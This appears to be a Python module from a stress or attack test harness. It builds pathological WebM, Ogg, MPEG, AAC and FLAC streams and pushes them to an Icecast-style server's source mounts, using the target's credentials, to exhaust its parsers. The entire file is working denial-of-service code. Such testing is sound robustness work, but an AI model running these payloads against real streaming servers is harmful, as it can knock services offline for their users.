"""Streams whose structure costs a parser the most: WebM of tiny elements, Ogg of empty pages, MPEG of false headers."""

from contextlib import suppress

from attacks.target import Attack, Target
from attacks.wire import basic, connect

ROUNDS = 8

EBML = b"\x1a\x45\xdf\xa3\x80"
SEGMENT = b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"


def webm(size: int) -> bytes:
    """Returns one element of `size` bytes that holds only children of two bytes each."""
    return EBML + SEGMENT + b"\x15\x49\xa9\x66" + (size | 1 << 28).to_bytes(4, "big") + b"\xec\x80" * (size // 2)


STREAMS = {
    "audio/webm": webm(4 << 20),
    "application/ogg": (b"OggS\0\0" + bytes(20) + b"\0") * 150_000,
    "audio/ogg": b"OggS" * 1_000_000,
    "audio/mpeg": b"\xff\xfb\x90\x64" * 1_000_000,
    "audio/aac": b"\xff\xf1\x50\x80\x00\xff\xfc" * 600_000,
    "audio/flac": b"fLaC" + bytes(4 << 20),
}


def run(target: Target, scale: float) -> int:
    """Sends each as fast as the server takes it, on four mounts at a time."""
    login = basic(target.server.source_user, target.server.source_password)
    count = 0
    for _ in range(max(1, int(ROUNDS * scale))):
        for kind, data in STREAMS.items():
            with connect(target.port) as sock:
                sock.sendall(f"SOURCE /deep-{count % 4} ICE/1.0\r\ncontent-type: {kind}\r\n".encode() + login + b"\r\n")
                with suppress(OSError):
                    sock.recv(200)
                    sock.sendall(data)
            count += 1
    return count


ATTACK = Attack("costly streams", "the worst input that we know for each parser", run, 80.0)
